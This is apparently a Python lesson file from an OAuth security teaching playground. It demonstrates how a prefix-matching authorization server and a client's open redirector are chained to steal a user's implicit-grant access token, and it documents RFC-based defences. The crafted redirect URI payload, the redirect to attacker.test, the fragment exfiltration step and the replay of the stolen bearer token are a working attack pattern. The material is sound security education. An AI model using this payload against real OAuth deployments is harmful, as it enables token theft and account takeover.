"""Redirect URI manipulation: a prefix-matching authorization server and an
open redirector on the client hand Alice's access token to the attacker
(RFC 9700 4.1 and 4.11, RFC 6749 10.6 and 10.15)."""

from urllib.parse import urlencode

from playground import Lesson

lesson = Lesson(
    "Redirect URI prefix matching + an open redirector",
    level="advanced",
    kind="attack",
    weakness=("as.loose_redirect_uri", "client.open_redirect"),
    summary=(
        "The authorization server accepts any redirect URI that starts with "
        "the registered one, and PhotoPrint's /go forwards to any site. Mallory "
        "chains the two: her link sends Alice's access token for Legacy Gallery "
        "to PhotoPrint's /go, which bounces the browser, token fragment and "
        "all, to Mallory's page."
    ),
    defence="""
**Compare redirect URIs exactly, and do not run open redirectors.**

This is the attack of RFC 9700 4.1.2 (redirect URI validation attacks on the
implicit grant), with the open redirector of RFC 9700 4.11 as its accomplice.

- The authorization server must compare the redirect URI in the request with
  the registered ones by **exact string matching** (RFC 9700 2.1 and 4.1.3;
  RFC 6749 3.1.2.3 and 10.6). No prefixes, no wildcards, no
  path normalisation; the one exception is the port of a loopback redirect
  URI for native apps (RFC 8252 7.3). Here the AS answers **400** with
  `invalid_request` and shows an error page: it must not redirect to an
  unverified URI at all (RFC 6749 4.1.2.1 and 4.2.2.1).
- Clients and authorization servers must not expose **open redirectors**
  (RFC 9700 4.11, RFC 6749 10.15): `/go?to=` forwards only to the site's own
  paths. The open redirector is the accomplice; the loose matching is the
  crime. Either fix alone breaks this chain, so do both.
- Browsers carry a fragment across a redirect that has none (RFC 9110
  10.2.2). That is why tokens in the fragment travel so far: stop using the
  implicit grant (RFC 9700 2.1.2) and use the code grant with PKCE, whose
  code is worthless to someone without the verifier.
- Exact matching of full registered URIs (no patterns) also defeats the
  other tricks attackers play on lenient matchers: `..` segments, `@` in
  the authority, encoded characters, look-alike subdomains (RFC 9700 4.1.1
  shows a wildcard and a subdomain takeover, 4.1.2 an open redirector; the
  rest are classic URL-parser confusions).
- Re-approve a public client silently only when its identity is proven:
  RFC 6749 10.2 says the server SHOULD NOT process repeated authorization
  requests automatically without authenticating the client or other
  measures, and RFC 8252 8.6 accepts https redirect URIs matched exactly as
  such a measure. A prefix match voids that proof, and the silence is what
  lets this redirect happen without a single click.
""",
)

CLIENT = "https://photoprint.test"
REGISTERED = f"{CLIENT}/legacy/callback"
# Starts with the registered URI; the browser resolves `..` (RFC 3986 5.2.4),
# so the request goes to PhotoPrint's /go, which forwards to Mallory.
CRAFTED = f"{REGISTERED}/../../go?to=https://attacker.test/landing"


@lesson.step("Alice has used Legacy Gallery before")
def alice_uses_legacy_gallery(run):
    """
    Set the scene: Alice signs in to Legacy Gallery, an old browser app using
    the implicit grant (`response_type=token`), and approves `basic` and
    `photos.read`. The token comes back in the fragment of the registered
    redirect URI, `https://photoprint.test/legacy/callback`.

    Two things stay behind that Mallory will count on: Alice's session
    cookie at the authorization server, and her **remembered consent** for
    Legacy Gallery. Next time, the AS will not ask her anything.
    (The AS re-approves a public client silently because its https redirect
    URI, matched exactly, proves who it is, RFC 8252 8.6; with a prefix match
    that proof is gone, and the silence is what lets this redirect happen
    without a single click.)
    """
    url = run.legacy_app.authorization_url("basic photos.read", response_type="token")
    run.browser.open(url)
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    location = run.browser.redirect_location or ""
    run.check(
        "the token goes to the registered redirect URI, in the fragment",
        location.startswith(f"{REGISTERED}#") and "access_token=" in location,
    )
    run.browser.follow_redirect()


@lesson.step("Mallory crafts a link and puts it on her page")
def mallory_crafts_the_link(run):
    """
    Mallory writes an authorization request for Legacy Gallery with
    `response_type=token`, the same scopes Alice approved before, and this
    redirect URI:

    `https://photoprint.test/legacy/callback/../../go?to=https://attacker.test/landing`

    As a string it **starts with** the registered URI. As a URL, a browser
    resolves the `..` segments (RFC 3986 5.2.4) and lands on PhotoPrint's
    `/go?to=...`, a "continue to" redirector on the same host.

    She puts the link on her "Win 100 free photo prints!" page, and Alice
    visits it.
    """
    query = urlencode(
        {
            "response_type": "token",
            "client_id": "legacy-gallery",
            "redirect_uri": CRAFTED,
            "scope": "basic photos.read",
        }
    )
    run.malicious_link = f"{run.issuer}/authorize?{query}"
    run.check(
        "the crafted redirect URI starts with the registered one",
        CRAFTED.startswith(REGISTERED) and CRAFTED != REGISTERED,
    )
    run.browser.open(f"{run.attacker.url}/free-prints")
    run.check(
        "Alice is on Mallory's page",
        "Win 100 free photo prints!" in run.browser.page.text,
    )


@lesson.step("Alice clicks: the authorization server checks the redirect URI")
def alice_clicks(run):
    """
    Alice's browser opens the link at the real authorization server. She is
    still signed in there, and she already consented to these scopes for
    Legacy Gallery. The only question left is the redirect URI.

    - **Weakness on**: prefix matching accepts it. The AS answers **302** at
      once, with no page at all, to the crafted URI with
      `#access_token=...` appended. Read the `Location` header.
    - **Defended**: the redirect URI check (`Client.check_redirect_uri`,
      exact match) fails. The AS answers **400** with an error page
      (`invalid_request`, "Redirect URI ... is not supported by client.") and
      **no `Location` header**: RFC 6749 4.2.2.1 forbids redirecting to an
      unverified URI, even to report the error.
    """
    run.browser.click(run.malicious_link)
    location = run.browser.redirect_location or ""
    if run.weakness_on:
        run.check("the authorization server answers 302", run.browser.status == 302)
        run.check(
            "to the crafted URI, the access token in the fragment",
            location.startswith(f"{CRAFTED}#") and "access_token=" in location,
        )
        run.check(
            "Alice was not asked anything (consent remembered)",
            run.browser.page.form("consent-form") is None,
        )
    else:
        page = run.browser.page.text
        refused = run.events_named("authorization_request.refused")
        run.check("the authorization server answers 400", run.browser.status == 400)
        run.check("with no Location header: no redirect", location == "")
        run.check("the error is invalid_request", "invalid_request" in page)
        run.check(
            'the page says "Redirect URI ... is not supported by client."',
            f"Redirect URI {CRAFTED} is not supported by client." in page,
        )
        run.check(
            "the server logged authorization_request.refused",
            len(refused) == 1 and refused[0].client_id == "legacy-gallery",
        )


@lesson.step("PhotoPrint's /go forwards the browser, fragment and all")
def open_redirect(run):
    """
    The browser follows the `Location`. Look at the request line: it is
    `GET /go?to=https://attacker.test/landing`, because the
    browser removed `legacy/callback/../..` before sending. The fragment is
    **not** in the request: fragments never leave the browser.

    PhotoPrint's `/go` answers **302** to Mallory's page. Its `Location` has
    no fragment, so the browser keeps the one it had (RFC 9110 10.2.2): the
    address bar now reads
    `https://attacker.test/landing#access_token=...`.

    - **Defended**: the browser is still on the authorization server's error
      page; there is nothing to follow. As a second line of defence, we try
      PhotoPrint's `/go` directly: with the open redirect fixed it answers
      **400** "PhotoPrint only forwards you to its own pages."
    """
    if run.browser.redirect_location:
        run.browser.follow_redirect()
        run.check(
            "the browser asked PhotoPrint for /go (dot segments resolved)",
            run.exchanges[-1].request.target.startswith("/go?to="),
        )
        run.check(
            "PhotoPrint's /go answers 302 to Mallory's page",
            run.browser.redirect_location == f"{run.attacker.url}/landing",
        )
        run.browser.follow_redirect()
        run.check(
            "Alice's address bar: Mallory's page with #access_token=...",
            run.browser.address.startswith(f"{run.attacker.url}/landing#")
            and "access_token" in run.browser.fragment_params,
        )
        token = run.browser.fragment_params["access_token"]
        run.check(
            "the token itself never crossed the wire in a request",
            all(token not in e.request.url for e in run.exchanges),
        )
    else:
        run.check(
            "the browser stays on the error page: nothing to follow",
            run.browser.status == 400,
        )
        run.browser.open(f"{CLIENT}/go?to={run.attacker.url}/landing")
        run.check(
            "PhotoPrint's /go refuses another site: 400",
            run.browser.status == 400
            and "only forwards you to its own pages" in run.browser.page.text,
        )


@lesson.step("Mallory's script sends the fragment home")
def exfiltrate(run):
    """
    Mallory's page runs a script that reads `location.hash` and posts it to
    her server (`POST /collect`). Look at the form body: `access_token=...`,
    now at Mallory's site.

    - **Defended**: Alice's browser never reached Mallory's site with a
      fragment; the site has received nothing valuable.
    """
    if run.browser.address.startswith(run.attacker.url):
        run.attacker.exfiltrate(run.browser)
        run.check(
            "Mallory's site received the access token",
            len(run.attacker.loot("access_token")) == 1,
        )
    else:
        run.check(
            "Mallory's site has received no code and no token",
            run.attacker.secrets_received() == [],
        )


@lesson.step("Mallory calls the photos API as Alice")
def attacker_calls_api(run):
    """
    Mallory sends the stolen token from her own machine: `GET /api/photos`
    with `Authorization: Bearer ...`. The sender is **Attacker**. It is a
    bearer token: whoever holds it may use it (RFC 6750), and the photos API
    cannot tell who that is.

    - **Defended**: Mallory has no token to send; she sent nothing.
    """
    stolen = run.attacker.loot("access_token")
    if stolen:
        run.attacker.stolen["access_token"] = stolen[0]
        response = run.attacker.call_api("/api/photos", stolen[0])
        claims = run.decode(stolen[0]).claims
        run.check("the API answers 200 to the Attacker", response.status_code == 200)
        run.check(
            "with Alice's photos",
            [p["id"] for p in response.json().get("photos", [])] == ["p-1", "p-2"],
        )
        run.check(
            "the token is Alice's (sub u-1001), issued to legacy-gallery",
            claims.get("sub") == "u-1001"
            and claims.get("client_id") == "legacy-gallery",
        )
    else:
        sent = [e for e in run.all_exchanges if e.sender == "Attacker"]
        run.check("the Attacker never called the API", sent == [])
